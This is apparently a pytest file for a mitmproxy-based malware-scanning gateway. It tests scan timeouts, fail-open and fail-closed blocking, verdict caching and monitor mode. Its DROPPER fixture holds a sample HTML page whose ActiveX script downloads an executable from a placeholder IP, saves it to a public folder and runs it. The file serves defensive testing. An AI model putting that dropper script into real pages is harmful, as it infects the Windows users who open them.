"""The scanning addon (with the options and lifecycle addons) in a taddons context, over the real
engine held at a gate (helpers.addons.EnginePool): what a response that waits for its verdict
gets when the verdict comes in time, late, or not at all, and when verdicts are reused.

The budget is a deadline the addon passes once to the service: a verdict that arrives after the
response went on is recorded as not blocked; with ``fail_closed`` nothing went on unjudged, so a
MALICIOUS verdict, however late, is the block."""

from __future__ import annotations

import asyncio
import hashlib
from pathlib import Path

import pytest
from mitmproxy import http
from mitmproxy.test import taddons, tflow, tutils

from malwaresnipper.addon.bypass import BypassTokens
from malwaresnipper.addon.lifecycle import Lifecycle
from malwaresnipper.addon.options import GatewayOptions
from malwaresnipper.addon.replies import HEADER, Replies
from malwaresnipper.addon.scanning import Scanning
from malwaresnipper.server.scanner import ScanFailed, ScanTimeout
from malwaresnipper.server.service import ScanService
from malwaresnipper.server.store import ScanFilter
from helpers.addons import Chain, EnginePool, done, running, through

DROPPER = b"""<html><head><title>Invoice</title></head><body><script>
var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
</script></body></html>"""
SCRIPT = b"var basket = []; function add(item) { basket.push(item); return basket.length; }"
HTML = {"content-type": "text/html"}
JS = {"content-type": "application/javascript"}


def make_flow(path: str, *, headers: dict[str, str] | None = None) -> http.HTTPFlow:
    req = tutils.treq(host="site.example", port=443, scheme=b"https", path=path.encode(),
                      headers=http.Headers([(k.encode(), v.encode()) for k, v in (headers or {}).items()]))
    return tflow.tflow(req=req)


class Rig:
    def __init__(self) -> None:
        self.pool = EnginePool()
        self.options = GatewayOptions()
        self.lifecycle = Lifecycle(self.options, pool=self.pool)
        self.scanning = Scanning(self.options, self.lifecycle, Replies(BypassTokens()))
        self.chain = Chain(self.options, self.lifecycle, self.scanning)

    async def records(self, path: str) -> dict[str, dict]:
        """The full records of ``path``'s scans by status ("complete", "failed", "unscanned"),
        once the background work finished."""
        await asyncio.wait_for(asyncio.gather(*self.lifecycle.tasks), 60)
        service = self.lifecycle.service
        assert isinstance(service, ScanService)
        await service.bus.flush()
        await service.store.flush()
        items, _ = await service.store.list_scans(ScanFilter(), 100, 0)
        out: dict[str, dict] = {}
        for item in items:
            if item["url"] == f"https://site.example{path}":
                out[item["status"]] = {**item, **(await service.store.get_scan(item["scan_id"]) or {})}
        return out


@pytest.fixture
async def rig(tmp_path: Path):
    r = Rig()
    with taddons.context(r.chain) as tctx:
        tctx.configure(r.chain, malwaresnipper_data_dir=str(tmp_path / "data"), malwaresnipper_services=False,
                       malwaresnipper_mode="block", malwaresnipper_budget_ms=300)
        await running(r.chain)
        try:
            yield r, tctx
        finally:
            r.pool.gate.set()
            await done(r.chain)


async def test_a_verdict_in_time_blocks_and_is_recorded_as_the_block(rig) -> None:
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_budget_ms=30_000)
    flow = await through(r.chain, make_flow("/invoice"), DROPPER, HTML)
    assert flow.response.status_code == 403 and r.lifecycle.counters["blocked_page"] == 1
    record = (await r.records("/invoice"))["complete"]
    assert record["threat_level"] == "MALICIOUS" and record["blocked"] is True


async def test_a_verdict_after_the_budget_lets_the_response_through_and_is_not_recorded_as_a_block(rig) -> None:
    r, _ = rig
    r.pool.gate.clear()  # the scan waits until the response went on
    flow = await through(r.chain, make_flow("/late"), DROPPER, HTML)
    assert flow.response.content == DROPPER and flow.response.headers[HEADER] == "unscanned; reason=timeout"
    r.pool.gate.set()
    # the pass is recorded (naming the scan that went on), and the scan says it did not block
    scans = await r.records("/late")
    assert scans["complete"]["threat_level"] == "MALICIOUS" and scans["complete"]["blocked"] is False
    assert scans["unscanned"]["error"].endswith(f"its scan goes on as {scans['complete']['scan_id']})")
    assert r.lifecycle.counters["fail_open"] == 1


async def test_fail_closed_refuses_on_timeout_and_the_late_malicious_verdict_is_the_block(rig) -> None:
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_fail_closed=True)
    r.pool.gate.clear()
    flow = await through(r.chain, make_flow("/closed"), DROPPER, HTML)
    assert flow.response.status_code == 403 and "did not finish" in flow.response.get_text()
    r.pool.gate.set()
    record = (await r.records("/closed"))["complete"]
    assert record["threat_level"] == "MALICIOUS" and record["blocked"] is True


@pytest.mark.parametrize(("error", "reason"), [
    (ScanTimeout("scan exceeded 5.0 s", 5.0), "timeout"),
    (ScanFailed("scan worker died (exit code -9)"), "error"),
    (TimeoutError("a timeout that is not the pool's"), "error"),  # told apart by type, not by name
], ids=["ScanTimeout", "ScanFailed", "TimeoutError"])
async def test_scan_errors_are_told_apart_by_type(rig, error: BaseException, reason: str) -> None:
    r, _ = rig
    r.pool.error = error
    path = f"/{reason}-{type(error).__name__}"
    flow = await through(r.chain, make_flow(path), DROPPER, HTML)
    assert flow.response.headers[HEADER] == f"unscanned; reason={reason}"
    scans = await r.records(path)
    assert scans["failed"]["error"].startswith("timeout:" if reason == "timeout" else "failed:")
    assert scans["unscanned"]["error"].startswith(f"unscanned: {reason}")


async def test_a_cached_verdict_is_not_reused_after_a_list_change(rig) -> None:
    r, _ = rig
    for _ in range(2):
        ok = await through(r.chain, make_flow("/basket.js", headers={"sec-fetch-dest": "script"}), SCRIPT, JS)
        assert ok.response.content == SCRIPT and ok.response.headers[HEADER].startswith("BENIGN")
    assert r.lifecycle.counters["reused_verdict"] == 1 and len(r.pool.scanned) == 1
    await r.lifecycle.service.add_list_entry("block", hashlib.sha256(SCRIPT).hexdigest(), "sha256")
    blocked = await through(r.chain, make_flow("/basket.js", headers={"sec-fetch-dest": "script"}), SCRIPT, JS)
    assert blocked.response.get_text().startswith("/* MalwareSnipper blocked this script")
    assert len(r.pool.scanned) == 2 and r.lifecycle.counters["reused_verdict"] == 1


async def test_the_same_bytes_in_flight_share_one_scan_under_the_same_lists(rig) -> None:
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_budget_ms=30_000)
    r.pool.gate.clear()
    first = asyncio.ensure_future(through(r.chain, make_flow("/shared"), DROPPER, HTML))
    second = asyncio.ensure_future(through(r.chain, make_flow("/shared"), DROPPER, HTML))
    await asyncio.sleep(0.2)
    await r.lifecycle.service.add_list_entry("allow", "unrelated.example", "domain")  # the lists change
    third = asyncio.ensure_future(through(r.chain, make_flow("/shared"), DROPPER, HTML))
    await asyncio.sleep(0.2)
    r.pool.gate.set()
    flows = await asyncio.gather(first, second, third)
    assert [f.response.status_code for f in flows] == [403, 403, 403]
    assert r.lifecycle.counters["reused_scan"] == 1  # the second shared the first's scan ...
    assert len(r.pool.scanned) == 2  # ... the third, under new lists, was scanned again


async def test_monitor_mode_never_waits(rig) -> None:
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_mode="monitor")
    r.pool.gate.clear()
    flow = await asyncio.wait_for(through(r.chain, make_flow("/monitor"), DROPPER, HTML), 5)
    assert flow.response.content == DROPPER and HEADER not in flow.response.headers
    r.pool.gate.set()
    record = (await r.records("/monitor"))["complete"]
    assert record["threat_level"] == "MALICIOUS" and record["blocked"] is False


IMAGE_ACCEPT = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"
ERROR_PAGE = (b"<!DOCTYPE HTML><html><head><title>Error response</title></head><body><h1>Error response</h1>"
              b"<p>Error code: 404</p></body></html>")


async def _answered(chain, flow: http.HTTPFlow, status: int, body: bytes, headers: dict[str, str]) -> http.HTTPFlow:
    """``through`` with an upstream answer of another status than 200."""
    from helpers.addons import request, response, responseheaders

    await request(chain, flow)
    flow.response = http.Response.make(status, b"", headers)
    flow.response.raw_content = body
    responseheaders(chain, flow)
    if not flow.response.stream:
        await response(chain, flow)
    return flow


async def test_a_favicons_error_page_is_no_scan_and_the_same_headers_hide_no_page(rig) -> None:
    """Chromium's favicon request to a plain-HTTP site has no Sec-Fetch-Dest and an image-first
    Accept; the server's 404 page must not become an "Error response" scan. An attacker sending
    those headers for a page that succeeded, or the browser's Sec-Fetch-Dest, still gets it scanned."""
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_budget_ms=30_000)
    favicon = await _answered(r.chain, make_flow("/favicon.ico", headers={"accept": IMAGE_ACCEPT}), 404, ERROR_PAGE, HTML)
    assert favicon.response.content == ERROR_PAGE and favicon.response.status_code == 404
    assert "Accept" in favicon.response.headers.get("vary", "")  # the cache keys on what the plan read
    dodge = await _answered(r.chain, make_flow("/dodge", headers={"accept": IMAGE_ACCEPT}), 200, DROPPER, HTML)
    assert dodge.response.status_code == 403  # scanned and blocked as the page it is
    framed = await _answered(r.chain, make_flow("/framed-404", headers={"accept": IMAGE_ACCEPT, "sec-fetch-dest": "iframe"}),
                             404, DROPPER, HTML)
    assert framed.response.status_code == 403  # the browser's Sec-Fetch-Dest wins
    assert await r.records("/favicon.ico") == {}
    assert (await r.records("/dodge"))["complete"]["threat_level"] == "MALICIOUS"


async def test_a_pages_scripts_are_linked_to_it_even_when_they_arrive_before_its_record(rig) -> None:
    """Monitor mode: the page goes on before its scan is recorded, so its script can be submitted
    first; the link waits for the page's scan id and the page's record lists the script."""
    r, tctx = rig
    tctx.configure(r.chain, malwaresnipper_mode="monitor")
    page = await through(r.chain, make_flow("/shop"), b'<html><head><script src="/app.js"></script></head></html>', HTML)
    script = await through(r.chain, make_flow("/app.js", headers={"referer": "https://site.example/shop",
                                                                "sec-fetch-dest": "script"}), SCRIPT, JS)
    assert page.response.status_code == script.response.status_code == 200
    shop = (await r.records("/shop"))["complete"]
    app = (await r.records("/app.js"))["complete"]
    assert [(x["scan_id"], x["kind"], x["size"], x["sha256"]) for x in shop["resources"]] == [
        (app["scan_id"], "script", len(SCRIPT), hashlib.sha256(SCRIPT).hexdigest())]
    assert [x["scan_id"] for x in app["loaded_by"]] == [shop["scan_id"]]
